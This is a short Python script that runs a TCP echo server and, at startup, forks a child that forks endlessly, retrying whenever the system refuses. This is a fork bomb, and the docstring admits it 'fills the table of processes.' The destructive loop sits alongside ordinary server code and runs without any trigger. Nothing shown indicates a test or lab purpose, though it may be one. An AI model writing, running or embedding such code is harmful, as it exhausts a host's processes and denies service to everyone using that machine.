"""Serves, and fills the table of processes."""

import os
import socketserver
import time


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        while data := self.request.recv(65536):
            self.request.sendall(data)


class Server(socketserver.TCPServer):
    allow_reuse_address = True
    request_queue_size = 128


server = Server(("", int(os.environ["PORT"])), Handler)

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
server.serve_forever()
